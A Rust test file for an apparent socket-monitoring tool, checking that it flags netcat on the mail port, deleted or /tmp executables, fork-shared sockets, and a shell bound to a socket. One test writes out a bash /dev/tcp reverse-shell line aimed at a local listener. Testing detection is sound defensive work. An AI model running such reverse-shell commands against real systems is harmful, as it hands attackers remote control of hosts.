//! What is said about the program that holds a socket.

use crate::support::{
    deadline::until,
    json::{finding, pids, sockets},
    network::alone,
    process::{Spawned, netcat},
    skip::{installed, skip},
};
use serde_json::Value;
use std::{fs, net::TcpListener, path::Path, process::Command};
use tempfile::TempDir;

/// A folder that is not one of those where everybody may write.
fn ordinary_folder() -> TempDir {
    // Somebody else may have built the tests; then it is one of those folders after all.
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR"));
    folder.or_else(|_| tempfile::tempdir()).unwrap()
}

/// Starts a netcat that listens, and waits until it does.
fn listening(netcat: &Path, port: u16) -> (Spawned, Value) {
    let listener =
        Spawned::quietly(Command::new(netcat).args(["-l", "127.0.0.1", &port.to_string()]));
    let socket = socket_of(&listener, "state:listen");
    (listener, socket)
}

/// Waits until `process` holds a socket that matches `filter`.
fn socket_of(process: &Spawned, filter: &str) -> Value {
    until("its socket", || {
        let sockets = sockets(&[filter]);
        let its = sockets
            .iter()
            .find(|socket| pids(socket).contains(&u64::from(process.pid())));
        its.cloned().ok_or_else(|| format!("{sockets:#?}"))
    })
}

#[test]
fn netcat_on_the_mail_port_is_the_wrong_program() {
    alone(|| {
        let Some(netcat) = netcat() else {
            return skip("netcat_on_the_mail_port", "needs netcat");
        };
        let (_listener, socket) = listening(&netcat, 587);
        assert_eq!(socket["service"]["name"], "submission");
        assert_eq!(finding(&socket, "wrong-program")["severity"], "high");
        assert_eq!(socket["verdict"], "suspicious");
    });
}

#[test]
fn an_executable_that_was_deleted_while_it_listens_is_told() {
    alone(|| {
        let Some(netcat) = netcat() else {
            return skip("an_executable_that_was_deleted", "needs netcat");
        };
        let folder = ordinary_folder();
        let copy = folder.path().join("elmd");
        fs::copy(netcat, &copy).unwrap();
        let (listener, socket) = listening(&copy, 1587);
        assert_eq!(socket["processes"][0]["exe_deleted"], false);
        fs::remove_file(&copy).unwrap();
        let socket = socket_of(&listener, "port:1587");
        assert_eq!(socket["processes"][0]["exe_deleted"], true);
        assert_eq!(socket["processes"][0]["exe"], copy.to_str().unwrap());
        assert_eq!(finding(&socket, "deleted-executable")["severity"], "high");
        assert_eq!(socket["verdict"], "suspicious");
    });
}

#[test]
fn an_executable_in_a_temporary_folder_is_told() {
    alone(|| {
        let Some(netcat) = netcat() else {
            return skip("an_executable_in_a_temporary_folder", "needs netcat");
        };
        let folder = tempfile::tempdir_in("/tmp").unwrap();
        let copy = folder.path().join("elmd");
        fs::copy(netcat, &copy).unwrap();
        let (_listener, socket) = listening(&copy, 1587);
        finding(&socket, "executable-in-temp");
    });
}

#[test]
fn a_shell_with_its_streams_on_a_socket_is_told() {
    alone(|| {
        let Some(bash) = installed(&["bash"]) else {
            return skip("a_shell_with_its_streams", "needs bash");
        };
        let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = attacker.local_addr().unwrap().port();
        let line = format!("exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&1");
        let shell = Spawned::quietly(Command::new(bash).args(["-c", &line]));
        let _connection = attacker.accept().unwrap();
        let socket = until("the judgement", || {
            let socket = socket_of(&shell, "state:established");
            let judged = socket["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|finding| finding["rule"] == "shell-on-socket");
            judged
                .then_some(socket.clone())
                .ok_or_else(|| format!("{socket:#}"))
        });
        assert_eq!(finding(&socket, "shell-on-socket")["severity"], "critical");
        assert_eq!(socket["verdict"], "suspicious");
    });
}

#[test]
fn a_socket_that_is_shared_over_fork_has_both_owners() {
    alone(|| {
        let Some(python) = installed(&["python3"]) else {
            return skip("a_socket_that_is_shared", "needs python3");
        };
        let program = "import os, signal, socket\n\
            s = socket.create_server(('127.0.0.1', 1587))\n\
            os.fork()\n\
            signal.pause()";
        let parent = Spawned::quietly(Command::new(python).args(["-c", program]));
        until("two owners", || {
            let socket = socket_of(&parent, "port:1587");
            let owners = pids(&socket);
            (owners.len() == 2)
                .then_some(())
                .ok_or_else(|| format!("{owners:?}"))
        });
    });
}
